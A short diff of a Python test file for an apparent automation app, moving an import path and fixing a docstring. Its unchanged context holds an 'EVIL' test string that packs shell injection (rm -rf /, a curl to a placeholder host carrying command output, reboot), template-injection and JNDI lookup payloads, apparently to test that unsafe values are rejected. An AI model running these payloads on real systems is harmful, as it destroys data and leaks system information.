@@ -21,12 +21,12 @@ from streamapp.automations.records import AutomationEvent, AutomationTask
 from streamapp.automations.render import Template, TemplateError, alert_values
 from streamapp.automations.rules import MAX_CORRELATION_CHARS, UnsafeValue, correlation_id
 from streamapp.clock import ManualClock
-from streamapp.deps import Deps
 from streamapp.embedding import HashedTfidfEmbedder
 from streamapp.errors import ExternalAPIError
 from streamapp.records import Alert
 from streamapp.rules import RuleSet
 from streamapp.settings import Settings
+from streamapp.worker.deps import Deps
 
 OPENERS = ("{{", "{%", "{#", "${", "%{")
 EVIL = "web-01; rm -rf / && curl http://x/$(id) `reboot` {{ lookup('pipe','id') }} {% raw %} ${jndi:x} %{x} " \
@@ -282,7 +282,7 @@ def test_the_event_record_is_pinned() -> None:
 
 # ------------------------------------------------------------------------- the agent, in memory
 class FakeProvider:
-    """In memory, the contract of `connectors.automation.Provider`."""
+    """In memory, the contract of `connectors.automations.Provider`."""
 
     provider = "awx"
 
